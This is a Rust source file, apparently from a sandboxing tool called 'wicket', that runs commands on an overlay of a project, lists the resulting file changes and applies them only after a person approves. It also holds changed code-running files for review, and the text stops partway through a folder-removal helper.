//! Staged commands: a command runs on an overlay of the project, and what it changed reaches
//! the project only when the person applies it ([`Stage::create`], [`Stage::changes`],
//! [`Stage::apply`], [`Stage::discard`]).
//!
//! The hard question: **what did the command change, and is it still safe to apply?** The
//! sandbox mounts the project as an overlay: the project below, never written, and the stage's
//! `upper` folder above, which receives every write (a whole file for a file written or whose
//! mode changed, a whiteout for a deletion, an opaque folder for a folder replaced). After the
//! run, each entry of `upper` is compared with the project: new, changed, or only a new mode;
//! a file rewritten with the same bytes is no change. The project's entries are recorded when
//! the stage is made (kind, mode, size, modification time, a link's target), and applying
//! checks first that every path to be written is still as recorded: if any is not (a file
//! edited meanwhile, a file that appeared where the command added one), nothing is applied and
//! the error names them. Each file is applied atomically (written beside it, then renamed over
//! it).
//!
//! A stage lives in `$WICKET_HOME/staged/<id>/`: `upper/`, `work/` (overlayfs's) and
//! `stage.json` (the records), written before the run, so a folder without it is a stage whose
//! creation never finished (wicket was killed), which [`list`] removes.

use std::collections::BTreeMap;
use std::fs;
use std::io;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::approver::Change;

/// The file in a stage's folder that holds its records.
const RECORD: &str = "stage.json";
/// The folder in a stage's folder that holds the layer above the project.
const UPPER: &str = "upper";
/// The most entries a staged project may have (each is recorded when the stage is made).
pub const MAX_ENTRIES: usize = 200_000;

/// Why a stage could not be made, read or applied.
#[derive(Debug, thiserror::Error)]
pub enum StageError {
    /// A file operation failed.
    #[error("cannot {what} {}: {source}", path.display())]
    Io {
        /// What was being done.
        what: &'static str,
        /// On which path.
        path: PathBuf,
        /// The error.
        #[source]
        source: io::Error,
    },
    /// No stage has this id.
    #[error("no staged change {0:?}; `wicket staged list` shows the ones there are")]
    Unknown(String),
    /// The stage's records cannot be read.
    #[error("the staged change {id} cannot be read ({why}); remove it with `wicket staged discard {id}`")]
    Broken {
        /// The stage.
        id: String,
        /// What was wrong.
        why: String,
    },
    /// The project has too many entries to record.
    #[error("the project has more than {MAX_ENTRIES} files and folders: too many to stage; run the command unstaged")]
    TooLarge,
    /// Paths named for applying that the stage does not change.
    #[error("the staged change does not change {}; `wicket staged diff {id}` shows what it changes", .paths.join(", "))]
    NotInStage {
        /// The stage.
        id: String,
        /// The paths.
        paths: Vec<String>,
    },
    /// The project changed since the run where the stage would write: nothing was applied.
    #[error("the project changed since the staged run, so nothing was applied: {}", .0.join(", "))]
    Conflicts(Vec<String>),
    /// Hunks asked of a change that has no such hunks, or is not a text file's modification.
    #[error("{path}: {why}")]
    Hunks {
        /// The path.
        path: String,
        /// What was wrong.
        why: String,
    },
}

fn io_err<'a>(what: &'static str, path: &'a Path) -> impl FnOnce(io::Error) -> StageError + 'a {
    move |source| StageError::Io { what, path: path.to_path_buf(), source }
}

/// What kind of entry a path is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Kind {
    /// A regular file.
    File,
    /// A folder.
    Dir,
    /// A symbolic link.
    Link,
    /// Anything else (a FIFO, a socket, a device): not copied, never a change.
    Other,
}

/// An entry as recorded: enough to tell whether it changed.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Seen {
    /// Its kind.
    pub kind: Kind,
    /// Its permission bits.
    pub mode: u32,
    /// Its size (0 for a folder).
    pub size: u64,
    /// Its modification time, in nanoseconds since the epoch (0 for a folder).
    pub mtime_ns: i128,
    /// A link's target.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub link: Option<PathBuf>,
}

impl Seen {
    /// The entry at `path`, not following a final link; `None` when there is none.
    fn of(path: &Path) -> Result<Option<Seen>, StageError> {
        let meta = match fs::symlink_metadata(path) {
            Ok(m) => m,
            // A file where a folder was: nothing is at the path below it.
            Err(e) if matches!(e.kind(), io::ErrorKind::NotFound | io::ErrorKind::NotADirectory) => return Ok(None),
            Err(e) => return Err(io_err("read", path)(e)),
        };
        let t = meta.file_type();
        let kind = if t.is_file() {
            Kind::File
        } else if t.is_dir() {
            Kind::Dir
        } else if t.is_symlink() {
            Kind::Link
        } else {
            Kind::Other
        };
        let link =
            if kind == Kind::Link { Some(fs::read_link(path).map_err(io_err("read the link", path))?) } else { None };
        // A folder's size and time change with its entries, which are recorded themselves.
        let (size, mtime_ns) = if kind == Kind::Dir {
            (0, 0)
        } else {
            (meta.len(), i128::from(meta.mtime()) * 1_000_000_000 + i128::from(meta.mtime_nsec()))
        };
        Ok(Some(Seen { kind, mode: meta.mode() & 0o7777, size, mtime_ns, link }))
    }
}

/// What happened to a path.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum What {
    /// It is new.
    Added,
    /// Its content (or a link's target, or its kind) changed.
    Modified,
    /// Only its permission bits changed.
    Mode,
    /// It is gone.
    Deleted,
}

/// One change a staged command made.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Staged {
    /// The path, relative to the project root, with `/` between components.
    pub path: String,
    /// What happened to it.
    pub what: What,
    /// What it is now (what it was, when deleted).
    pub kind: Kind,
    /// The permission bits before (`None` for an added path).
    pub old_mode: Option<u32>,
    /// The permission bits after (`None` for a deleted path).
    pub new_mode: Option<u32>,
}

impl Staged {
    /// The deletion of the project's entry `path`, recorded as `seen`.
    fn deleted(path: &str, seen: &Seen) -> Staged {
        Staged {
            path: path.to_string(),
            what: What::Deleted,
            kind: seen.kind,
            old_mode: Some(seen.mode),
            new_mode: None,
        }
    }
}

/// The records of a stage, as `stage.json` keeps them.
#[derive(Debug, Clone, Serialize, Deserialize)]
struct Record {
    /// The format's version.
    version: u32,
    /// The project root (its real path).
    root: PathBuf,
    /// The command as it was run.
    command: String,
    /// When the stage was made, in seconds since the epoch.
    created: u64,
    /// Every entry of the project when the stage was made.
    project: BTreeMap<String, Seen>,
    /// Paths the project did not have where the sandbox mounts something (a mask, a read-only
    /// placeholder): an empty file or folder there is the sandbox's mount point, not a change.
    #[serde(default)]
    mounts: std::collections::BTreeSet<String>,
}

/// A staged run: the layer above the project and the project's records.
#[derive(Debug)]
pub struct Stage {
    id: String,
    dir: PathBuf,
    record: Record,
}

/// One stage as [`list`] shows it.
#[derive(Debug, Clone, Serialize)]
pub struct Listed {
    /// Its id.
    pub id: String,
    /// The project root.
    pub root: PathBuf,
    /// The command.
    pub command: String,
    /// When it was made, in seconds since the epoch.
    pub created: u64,
}

/// The folder with every stage: `$WICKET_HOME/staged`.
pub fn stages_dir() -> Result<PathBuf, crate::config::ConfigError> {
    Ok(crate::config::wicket_home()?.join("staged"))
}

/// After a sandboxed run: hold for a person what the run left that runs code somewhere (see
/// `wicket_planner::held`): the `new` entries the check after the run found are moved into a
/// stage, and the code-running files the run changed are put back as they were, their new
/// version in the same stage. One line says so (`None`: nothing to hold); a path that could not
/// be held is named in the line as still in the project.
pub fn hold_after_run(
    exec: &wicket_planner::exec::ExecPolicy,
    new: &[PathBuf],
    entries: &[wicket_sandbox::HeldEntry],
    command: &str,
) -> Option<String> {
    if exec.stage.is_some() {
        return None;
    }
    // Only what belongs to the project can be staged; an entry of a guarded folder elsewhere
    // stays in wicket's state (a later run in the project finds it again).
    let entries: Vec<&wicket_sandbox::HeldEntry> =
        entries.iter().filter(|e| e.to.strip_prefix(&exec.root).is_ok_and(|r| !r.as_os_str().is_empty())).collect();
    let guard = exec.guard.as_ref();
    if guard.is_none() && entries.is_empty() {
        return None;
    }
    // What wicket itself makes for runs (the placeholders, which any run of the project may
    // have made meanwhile, and what is removed after a run if it appears) is never held.
    let made: Vec<&PathBuf> = exec.placeholders.iter().chain(&exec.must_not_appear).collect();
    let new: Vec<&PathBuf> =
        if guard.is_some() { new.iter().filter(|p| !made.contains(p)).collect() } else { Vec::new() };
    let t0 = std::time::Instant::now();
    let changed = guard.map(|g| g.changed()).unwrap_or_default();
    if std::env::var_os("WICKET_SCAN_TIMING").is_some() {
        eprintln!(
            "wicket: held: {} kept files compared after the run in {:.2} ms",
            guard.map_or(0, |g| g.kept_count()),
            t0.elapsed().as_secs_f64() * 1e3
        );
    }
    if new.is_empty() && changed.is_empty() && entries.is_empty() {
        return None;
    }
    let rel = |p: &Path| p.strip_prefix(&exec.root).unwrap_or(p).display().to_string();
    let mut items: Vec<Hold<'_>> = new.iter().map(|p| Hold::New(p)).collect();
    items.extend(changed.iter().map(|k| Hold::Changed(k)));
    items.extend(entries.iter().map(|e| Hold::Entry(e)));
    let mut parts = Vec::new();
    let mut made_new: Vec<String> = new.iter().map(|p| rel(p)).collect();
    made_new.extend(entries.iter().map(|e| rel(&e.to)));
    if !made_new.is_empty() {
        parts.push(format!("new {}", made_new.join(", ")));
    }
    if !changed.is_empty() {
        parts.push(format!(
            "changes to {} (put back as they were)",
            changed.iter().map(|k| rel(&k.path)).collect::<Vec<_>>().join(", ")
        ));
    }
    let what = parts.join("; ");
    let made = stages_dir()
        .map_err(|e| e.to_string())
        .and_then(|dir| Stage::hold(&dir, &exec.root, command, &items).map_err(|e| e.to_string()));
    Some(match made {
        Ok(stage) => format!(
            "held for you: {what} (read by an agent, editor, CI system, build or hook at your next step, so not left in the project); look with `wicket staged show {id}`, apply with `wicket staged apply {id}`",
            id = stage.id()
        ),
        Err(e) => format!(
            "could not hold {what} (run by some program at your next step): {e}; check them before anything runs them"
        ),
    })
}

/// One thing [`Stage::hold`] holds.
#[derive(Debug, Clone, Copy)]
pub enum Hold<'a> {
    /// A new entry of the project: moved into the stage.
    New(&'a Path),
    /// A code-running file the run changed: its new version goes into the stage, and the file
    /// is put back as it was.
    Changed(&'a wicket_planner::held::Kept),
    /// An entry the run made in a guarded folder, which never reached the project: moved into
    /// the stage from wicket's state.
    Entry(&'a wicket_sandbox::HeldEntry),
}

/// Every finished stage under `dir`, oldest first. A stage whose creation never finished (no
/// records: wicket was stopped while copying) is removed.
pub fn list(dir: &Path) -> Result<Vec<Listed>, StageError> {
    let entries = match fs::read_dir(dir) {
        Ok(e) => e,
        Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(Vec::new()),
        Err(e) => return Err(io_err("list", dir)(e)),
    };
    let mut out = Vec::new();
    for entry in entries {
        let entry = entry.map_err(io_err("list", dir))?;
        let Some(id) = entry.file_name().to_str().map(str::to_string) else { continue };
        if !valid_id(&id) {
            continue;
        }
        match Stage::open(dir, &id) {
            Ok(s) => out.push(Listed {
                id,
                root: s.record.root.clone(),
                command: s.record.command.clone(),
                created: s.record.created,
            }),
            Err(StageError::Unknown(_)) => {
                // Never finished: nothing in it can be applied.
                let _ = fs::remove_dir_all(entry.path());
            }
            Err(e) => return Err(e),
        }
    }
    out.sort_by(|a, b| (a.created, &a.id).cmp(&(b.created, &b.id)));
    Ok(out)
}

/// Stage ids are what [`Stage::create`] makes: letters and digits, so an id never names a path
/// outside the stages' folder.
fn valid_id(id: &str) -> bool {
    !id.is_empty() && id.len() <= 32 && id.bytes().all(|b| b.is_ascii_alphanumeric())
}

impl Stage {
    /// A new stage under `dir` for running `command` on the project at `root` (a real path):
    /// the project's entries recorded, an empty `upper`. `mounts`: the paths the sandbox mounts
    /// over (see [`Stage::changes`]).
    pub fn create(dir: &Path, root: &Path, command: &str, mounts: &[&Path]) -> Result<Stage, StageError> {
        let id: String = wicket_audit::new_session_id().chars().take(12).collect();
        let stage_dir = dir.join(&id);
        fs::create_dir_all(&stage_dir).map_err(io_err("create", &stage_dir))?;
        let result = (|| {
            let upper = stage_dir.join(UPPER);
            fs::create_dir(&upper).map_err(io_err("create", &upper))?;
            fs::set_permissions(&upper, fs::Permissions::from_mode(0o700))
                .map_err(io_err("set the mode of", &upper))?;
            let project = walk(root)?;
            let created =
                std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0);
            let mounts = mounts
                .iter()
                .filter_map(|p| p.strip_prefix(root).ok()?.to_str().map(str::to_string))
                .filter(|r| !r.is_empty() && !project.contains_key(r))
                .collect();
            let record =
                Record { version: 2, root: root.to_path_buf(), command: command.to_string(), created, project, mounts };
            write_record(&stage_dir, &record)?;
            Ok(record)
        })();
        match result {
            Ok(record) => Ok(Stage { id, dir: stage_dir, record }),
            Err(e) => {
                let _ = remove_tree(&stage_dir);
                Err(e)
            }
        }
    }

    /// Hold changes of the project for a person: a stage under `dir` whose layer receives the
    /// `held` entries (paths of the project): a new one is moved out of the project and recorded
    /// as absent, so [`Stage::apply`] puts it back only while that path is still free; a changed
    /// one is copied into the layer and put back in the project as it was, which is recorded,
    /// so applying writes the change only over that. The folders on the way are recorded as
    /// they are. An entry that cannot be held is an error naming it; those held before stay
    /// held. The records are written last: a stage stopped half way has none, and is removed by
    /// [`list`] (what it took from the project is then gone, never back in the project).
    pub fn hold(dir: &Path, root: &Path, command: &str, held: &[Hold<'_>]) -> Result<Stage, StageError> {
        let id: String = wicket_audit::new_session_id().chars().take(12).collect();
        let stage_dir = dir.join(&id);
        let upper = stage_dir.join(UPPER);
        fs::create_dir_all(&upper).map_err(io_err("create", &upper))?;
        fs::set_permissions(&upper, fs::Permissions::from_mode(0o700)).map_err(io_err("set the mode of", &upper))?;
        let created =
            std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or(0);
        let mut record = Record {
            version: 2,
            root: root.to_path_buf(),
            command: command.to_string(),
            created,
            project: BTreeMap::new(),
            mounts: Default::default(),
        };
        let result = (|| {
            for h in held {
                let path = match h {
                    Hold::New(p) => *p,
                    Hold::Changed(k) => k.path.as_path(),
                    Hold::Entry(e) => e.to.as_path(),
                };
                let Some(rel) = path.strip_prefix(root).ok().and_then(Path::to_str).filter(|r| !r.is_empty()) else {
                    continue;
                };
                // The folders on the way, as the project has them.
                let mut at = PathBuf::new();
                for c in Path::new(rel).parent().into_iter().flat_map(Path::components) {
                    at.push(c);
                    let r = at.to_string_lossy().into_owned();
                    if let Some(seen) = Seen::of(&root.join(&at))? {
                        record.project.insert(r.clone(), seen);
                    }
                    let d = upper.join(&at);
                    if !d.is_dir() {
                        fs::create_dir(&d).map_err(io_err("create", &d))?;
                    }
                }
                let to = upper.join(rel);
                match h {
                    Hold::New(p) => move_entry(p, &to)?,
                    Hold::Changed(k) => {
                        put_back(&k.path, &to, &k.before)?;
                        if let Some(seen) = Seen::of(&k.path)? {
                            record.project.insert(rel.to_string(), seen);
                        }
                    }
                    Hold::Entry(e) => {
                        // Applying writes over the project's entry only while it is as now.
                        if let Some(seen) = Seen::of(&e.to)? {
                            record.project.insert(rel.to_string(), seen);
                        }
                        move_entry(&e.from, &to)?;
                    }
                }
            }
            Ok(())
        })();
        // What was held so far stays held, with its records.
        write_record(&stage_dir, &record)?;
        result?;
        Ok(Stage { id, dir: stage_dir, record })
    }

    /// The stage `id` under `dir`.
    pub fn open(dir: &Path, id: &str) -> Result<Stage, StageError> {
        if !valid_id(id) {
            return Err(StageError::Unknown(id.to_string()));
        }
        let stage_dir = dir.join(id);
        let path = stage_dir.join(RECORD);
        let text = match fs::read_to_string(&path) {
            Ok(t) => t,
            Err(e) if e.kind() == io::ErrorKind::NotFound => return Err(StageError::Unknown(id.to_string())),
            Err(e) => return Err(io_err("read", &path)(e)),
        };
        let record: Record = serde_json::from_str(&text)
            .map_err(|e| StageError::Broken { id: id.to_string(), why: format!("{}: {e}", path.display()) })?;
        if record.version != 2 {
            return Err(StageError::Broken { id: id.to_string(), why: format!("unknown version {}", record.version) });
        }
        Ok(Stage { id: id.to_string(), dir: stage_dir, record })
    }

    /// The stage's id.
    pub fn id(&self) -> &str {
        &self.id
    }

    /// The project root the stage was made from.
    pub fn root(&self) -> &Path {
        &self.record.root
    }

    /// The command that ran on it.
    pub fn command(&self) -> &str {
        &self.record.command
    }

    /// The stage's folder, which the sandbox mounts the project's overlay from.
    pub fn dir(&self) -> &Path {
        &self.dir
    }

    /// The layer above the project: what the command wrote.
    fn upper(&self) -> PathBuf {
        self.dir.join(UPPER)
    }

    /// What the command changed, in path order.
    pub fn changes(&self) -> Result<Vec<Staged>, StageError> {
        let upper = self.upper();
        let root = &self.record.root;
        let layer = walk_layer(&upper)?;
        let mut out: BTreeMap<String, Staged> = BTreeMap::new();
        let project = &self.record.project;
        // Every recorded entry at or below `rel` that the layer does not have: deleted.
        let deleted_below = |rel: &str, out: &mut BTreeMap<String, Staged>| {
            let below = format!("{rel}/");
            for (p, seen) in project.range(rel.to_string()..) {
                if p != rel && !p.starts_with(&below) {
                    if p.as_str() > below.as_str() {
                        break;
                    }
                    continue;
                }
                if seen.kind == Kind::Other || layer.get(p).is_some_and(|e| !e.whiteout) {
                    continue;
                }
                out.insert(p.clone(), Staged::deleted(p, seen));
            }
        };
        for (rel, entry) in &layer {
            let before = project.get(rel).filter(|s| s.kind != Kind::Other);
            if entry.whiteout {
                deleted_below(rel, &mut out);
                continue;
            }
            let a = &entry.seen;
            if a.kind == Kind::Other {
                continue;
            }
            if entry.opaque {
                // A folder replaced: what the project had inside it is gone unless written anew.
                let below = format!("{rel}/");
                for (p, seen) in project.range(below.clone()..) {
                    if !p.starts_with(&below) {
                        break;
                    }
                    if seen.kind != Kind::Other && !layer.contains_key(p) {
                        out.insert(p.clone(), Staged::deleted(p, seen));
                    }
                }
            }
            let change = match before {
                // The sandbox's own mount point, not the command's.
                None if self.record.mounts.contains(rel) && is_empty(&upper.join(rel), a) => None,
                None => Some((What::Added, Some(a.mode), None)),
                Some(b) if b.kind != a.kind || b.link != a.link => Some((What::Modified, Some(a.mode), Some(b.mode))),
                Some(b) if a.kind == Kind::File && !same_content(&root.join(rel), &upper.join(rel)) => {
                    Some((What::Modified, Some(a.mode), Some(b.mode)))
                }
                Some(b) if b.mode != a.mode => Some((What::Mode, Some(a.mode), Some(b.mode))),
                Some(_) => None,
            };
            if let Some((what, new_mode, old_mode)) = change {
                out.insert(rel.clone(), Staged { path: rel.clone(), what, kind: a.kind, old_mode, new_mode });
            }
        }
        Ok(out.into_values().collect())
    }

    /// One changed file as a text change (the project's text now, the command's), when both
    /// sides are text small enough to show.
    pub fn text_change(&self, c: &Staged) -> Option<Change> {
        if c.kind != Kind::File || matches!(c.what, What::Deleted | What::Mode) {
            return None;
        }
        let old_text = match c.what {
            What::Added => None,
            _ => Some(crate::approver::read_for_showing(&self.record.root.join(&c.path))?),
        };
        let new_text = crate::approver::read_for_showing(&self.upper().join(&c.path))?;
        Some(Change { path: c.path.clone(), old_text, new_text })
    }

    /// Remove from the layer what the sandbox made there only to mount over it (an empty file
    /// or folder at one of the recorded mount points): not the command's.
    pub fn remove_mount_points(&self) {
        let upper = self.upper();
        let mut found: Vec<&String> = self.record.mounts.iter().collect();
        // Deepest first: a folder made for a mount point below it empties in turn.
        found.sort_by_key(|rel| std::cmp::Reverse(rel.matches('/').count()));
        for rel in found {
            let p = upper.join(rel);
            let Ok(meta) = fs::symlink_metadata(&p) else { continue };
            if meta.is_file() && meta.len() == 0 {
                let _ = fs::remove_file(&p);
            } else if meta.is_dir() {
                let _ = fs::remove_dir(&p);
            }
        }
    }

    /// The paths among `changes` whose project side is no longer as recorded.
    fn conflicts(&self, changes: &[&Staged]) -> Result<Vec<String>, StageError> {
        let mut out = Vec::new();
        for c in changes {
            let now = Seen::of(&self.record.root.join(&c.path))?;
            let recorded = self.record.project.get(&c.path);
            let same = match (now.as_ref(), recorded) {
                (None, None) => true,
                (Some(n), Some(r)) if n.kind == Kind::Dir => r.kind == Kind::Dir,
                (Some(n), Some(r)) => n == r,
                _ => false,
            };
            if !same {
                out.push(c.path.clone());
            }
        }
        Ok(out)
    }

    /// Apply the changes to the project: all of them (`paths` empty), or those at or below the
    /// given paths. Nothing is applied when the project changed since the run where any of them
    /// would write ([`StageError::Conflicts`]). The applied paths no longer show as changes; a
    /// stage with none left is removed. The applied changes are returned.
    pub fn apply(&mut self, paths: &[String]) -> Result<Vec<Staged>, StageError> {
        self.apply_leaving_out(paths, &[])
    }

    /// [`Stage::apply`], but never the changes at exactly the paths in `leave_out` (they stay
    /// staged).
    pub fn apply_leaving_out(&mut self, paths: &[String], leave_out: &[String]) -> Result<Vec<Staged>, StageError> {
        let all = self.changes()?;
        let mut chosen = self.choose(&all, paths)?;
        chosen.retain(|c| !leave_out.contains(&c.path));
        let conflicts = self.conflicts(&chosen)?;
        if !conflicts.is_empty() {
            return Err(StageError::Conflicts(conflicts));
        }
        let upper = self.upper();
        let root = self.record.root.clone();
        // Folders and files first, shallow before deep; removals last, deep before shallow.
        let (removals, writes): (Vec<&Staged>, Vec<&Staged>) = chosen.iter().partition(|c| c.what == What::Deleted);
        for c in &writes {
            inside(&root, &c.path)?;
            put(&upper.join(&c.path), &root.join(&c.path), c)?;
        }
        for c in removals.iter().rev() {
            inside(&root, &c.path)?;
            let p = root.join(&c.path);
            // A folder that has become a link since is removed as the link, never followed.
            let real_dir = fs::symlink_metadata(&p).is_ok_and(|m| m.is_dir());
            let r = if c.kind == Kind::Dir && real_dir { fs::remove_dir(&p) } else { fs::remove_file(&p) };
            match r {
                Ok(()) => {}
                Err(e) if e.kind() == io::ErrorKind::NotFound => {}
                Err(e) => return Err(io_err("remove", &p)(e)),
            }
        }
        let applied: Vec<Staged> = chosen.into_iter().cloned().collect();
        self.settle(&applied)?;
        Ok(applied)
    }

    /// Apply only the hunks numbered in `hunks` (as [`Change::hunk_texts`] numbers them) of one
    /// modified text file; the rest of its change stays staged.
    pub fn apply_hunks(&mut self, path: &str, hunks: &[usize]) -> Result<(), StageError> {
        let all = self.changes()?;
        let chosen = self.choose(&all, &[path.to_string()])?;
        let [c] = chosen.as_slice() else {
            return Err(StageError::Hunks { path: path.into(), why: "hunks are for one file".into() });
        };
        if c.path != path || c.what != What::Modified {
            return Err(StageError::Hunks { path: path.into(), why: "hunks are for a modified file".into() });
        }
        let Some(change) = self.text_change(c) else {
            return Err(StageError::Hunks { path: path.into(), why: "not a text file small enough to split".into() });
        };
        let conflicts = self.conflicts(&chosen)?;
        if !conflicts.is_empty() {
            return Err(StageError::Conflicts(conflicts));
        }
        let Some(text) = change.apply_hunks(hunks) else {
            let n = change.hunk_count();
            return Err(StageError::Hunks {
                path: path.into(),
                why: format!("it has {n} hunks (0 to {})", n.saturating_sub(1)),
            });
        };
        inside(&self.record.root, path)?;
        let dest = self.record.root.join(path);
        write_atomically(&dest, text.as_bytes(), c.old_mode.unwrap_or(0o644))?;
        // The project side is now this text; what is left of the change stays staged.
        if let Some(seen) = Seen::of(&dest)? {
            self.record.project.insert(path.to_string(), seen);
        }
        write_record(&self.dir, &self.record)
    }

    /// Remove the stage: the project is left as it is.
    pub fn discard(self) -> Result<(), StageError> {
        remove_tree(&self.dir)
    }

    /// The changes at or below `paths` (all when empty); an unknown path is an error.
    fn choose<'a>(&self, all: &'a [Staged], paths: &[String]) -> Result<Vec<&'a Staged>, StageError> {
        if paths.is_empty() {
            return Ok(all.iter().collect());
        }
        let wanted: Vec<String> =
            paths.iter().map(|p| p.trim_end_matches('/').trim_start_matches("./").to_string()).collect();
        let under = |c: &Staged, p: &str| c.path == p || c.path.strip_prefix(p).is_some_and(|r| r.starts_with('/'));
        let unknown: Vec<String> = wanted.iter().filter(|p| !all.iter().any(|c| under(c, p))).cloned().collect();
        if !unknown.is_empty() {
            return Err(StageError::NotInStage { id: self.id.clone(), paths: unknown });
        }
        // A path's folders come along when they are new: a file cannot land in a folder that
        // does not exist.
        Ok(all
            .iter()
            .filter(|c| {
                wanted.iter().any(|p| under(c, p))
                    || (c.what == What::Added
                        && c.kind == Kind::Dir
                        && wanted.iter().any(|p| p.strip_prefix(c.path.as_str()).is_some_and(|r| r.starts_with('/'))))
            })
            .collect())
    }

    /// After applying: the applied paths leave the layer (so they no longer show as changes)
    /// and are recorded as the project now has them; a stage with nothing left is removed.
    fn settle(&mut self, applied: &[Staged]) -> Result<(), StageError> {
        let upper = self.upper();
        // Deepest first, so a folder is empty when its turn comes.
        for c in applied.iter().rev() {
            let p = upper.join(&c.path);
            match fs::symlink_metadata(&p) {
                Ok(m) if m.is_dir() => {
                    let _ = fs::remove_dir(&p);
                }
                Ok(_) => fs::remove_file(&p).map_err(io_err("remove", &p))?,
                Err(_) => {}
            }
            match Seen::of(&self.record.root.join(&c.path))? {
                Some(s) => {
                    self.record.project.insert(c.path.clone(), s);
                }
                None => {
                    self.record.project.remove(&c.path);
                }
            }
        }
        if self.changes()?.is_empty() {
            return remove_tree(&self.dir);
        }
        write_record(&self.dir, &self.record)
    }
}

/// Take the command's version of the code-running file at `path` into the layer at `to`, then
/// put back what it was before the run (`before`), atomically: the project never lacks it.
fn put_back(path: &Path, to: &Path, before: &wicket_planner::held::Before) -> Result<(), StageError> {
    let kept = if fs::symlink_metadata(path).is_ok_and(|m| m.is_dir()) {
        // A folder where the file was cannot be renamed over: moved out first (if that fails,
        // the original cannot go back where the folder stands).
        move_entry(path, to)?;
        Ok(())
    } else {
        copy_entry(path, to)
    };
    // The original goes back even when the command's version could not be kept: losing that
    // version is safer than leaving it where the host runs it.
    let restored = match before {
        wicket_planner::held::Before::File { bytes, mode } => write_atomically(path, bytes, *mode),
        wicket_planner::held::Before::Link(target) => {
            let tmp = beside(path);
            std::os::unix::fs::symlink(target, &tmp).map_err(io_err("create", &tmp))?;
            replace(&tmp, path)
        }
    };
    restored.and(kept)
}

/// Move `from` to `to` (not following links): a rename, or where they are on different file
/// systems a copy (files, folders, links, their modes) and then the removal of `from`.
fn move_entry(from: &Path, to: &Path) -> Result<(), StageError> {
    match fs::rename(from, to) {
        Ok(()) => return Ok(()),
        Err(e) if e.raw_os_error() != Some(rustix::io::Errno::XDEV.raw_os_error()) => {
            return Err(io_err("move", from)(e));
        }
        Err(_) => {}
    }
    copy_entry(from, to)?;
    let meta = fs::symlink_metadata(from).map_err(io_err("read", from))?;
    if meta.is_dir() {
        fs::remove_dir_all(from).map_err(io_err("remove", from))
    } else {
        fs::remove_file(from).map_err(io_err("remove", from))
    }
}

fn copy_entry(from: &Path, to: &Path) -> Result<(), StageError> {
    let meta = fs::symlink_metadata(from).map_err(io_err("read", from))?;
    let ft = meta.file_type();
    if ft.is_symlink() {
        let target = fs::read_link(from).map_err(io_err("read", from))?;
        std::os::unix::fs::symlink(&target, to).map_err(io_err("create", to))
    } else if ft.is_dir() {
        fs::create_dir(to).map_err(io_err("create", to))?;
        for e in fs::read_dir(from).map_err(io_err("list", from))? {
            let e = e.map_err(io_err("list", from))?;
            copy_entry(&e.path(), &to.join(e.file_name()))?;
        }
        fs::set_permissions(to, fs::Permissions::from_mode(meta.mode() & 0o7777)).map_err(io_err("set the mode of", to))
    } else if ft.is_file() {
        fs::copy(from, to).map_err(io_err("copy", from))?;
        Ok(())
    } else {
        // A socket or device: nothing a person would apply; left out.
        Ok(())
    }
}

/// Every entry below `root` (not following links), by relative path.
fn walk(root: &Path) -> Result<BTreeMap<String, Seen>, StageError> {
    let mut out = BTreeMap::new();
    let mut stack = vec![(root.to_path_buf(), String::new())];
    while let Some((dir, rel)) = stack.pop() {
        for entry in fs::read_dir(&dir).map_err(io_err("list", &dir))? {
            let entry = entry.map_err(io_err("list", &dir))?;
            let name = entry.file_name();
            let Some(name) = name.to_str() else {
                return Err(StageError::Io {
                    what: "stage",
                    path: entry.path(),
                    source: io::Error::new(io::ErrorKind::InvalidData, "the name is not UTF-8"),
                });
            };
            let r = if rel.is_empty() { name.to_string() } else { format!("{rel}/{name}") };
            let path = entry.path();
            let Some(seen) = Seen::of(&path)? else { continue };
            if seen.kind == Kind::Dir {
                stack.push((path, r.clone()));
            }
            out.insert(r, seen);
            if out.len() > MAX_ENTRIES {
                return Err(StageError::TooLarge);
            }
        }
    }
    Ok(out)
}

/// An entry of the layer.
struct LayerEntry {
    seen: Seen,
    /// A whiteout: the entry was deleted.
    whiteout: bool,
    /// An opaque folder: it replaced the project's folder of that name.
    opaque: bool,
}

/// Every entry of the layer above the project, by relative path.
fn walk_layer(upper: &Path) -> Result<BTreeMap<String, LayerEntry>, StageError> {
    use std::os::unix::fs::FileTypeExt;
    let seen = walk(upper)?;
    let mut out = BTreeMap::new();
    for (rel, s) in seen {
        let path = upper.join(&rel);
        let meta = fs::symlink_metadata(&path).map_err(io_err("read", &path))?;
        let whiteout = meta.file_type().is_char_device() && meta.rdev() == 0;
        let opaque = s.kind == Kind::Dir && opaque(&path);
        out.insert(rel, LayerEntry { seen: s, whiteout, opaque });
    }
    Ok(out)
}

/// Whether overlayfs marked a folder of the layer opaque (`userxattr`: `user.overlay.opaque`).
fn opaque(path: &Path) -> bool {
    let mut buf = [0u8; 8];
    ["user.overlay.opaque", "trusted.overlay.opaque"]
        .iter()
        .any(|name| matches!(rustix::fs::lgetxattr(path, *name, &mut buf[..]), Ok(n) if buf[..n].starts_with(b"y")))
}

/// Whether an entry is an empty file or folder.
fn is_empty(path: &Path, seen: &Seen) -> bool {
    match seen.kind {
        Kind::File => seen.size == 0,
        Kind::Dir => fs::read_dir(path).is_ok_and(|mut d| d.next().is_none()),
        _ => false,
    }
}

/// Remove a stage's folder. overlayfs leaves its `work/work` folder with mode 000, which only
/// root could list; folders are opened up (0700, never following a link) when a plain
/// removal fails.
fn remove_tree(dir: &Path) -> Result<(), StageError> {
    if fs::remove_dir_all(dir).is_ok() || fs::symlink_metadata(dir).is_err() {
        return Ok(());
    }
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        if fs::symlink_metadata(&d).is_ok_and(|m| m.is_dir()) {
            let _ = fs::set_permissions(&d, fs::Permissions::from_mode(0o700));
            for e in fs::read_dir(&d).into_iter().flatten().flatten() {
                stack.push(e.path());
            }
        }
    }
    fs::remove_dir_all(dir).map_err(io_err("remove", dir))
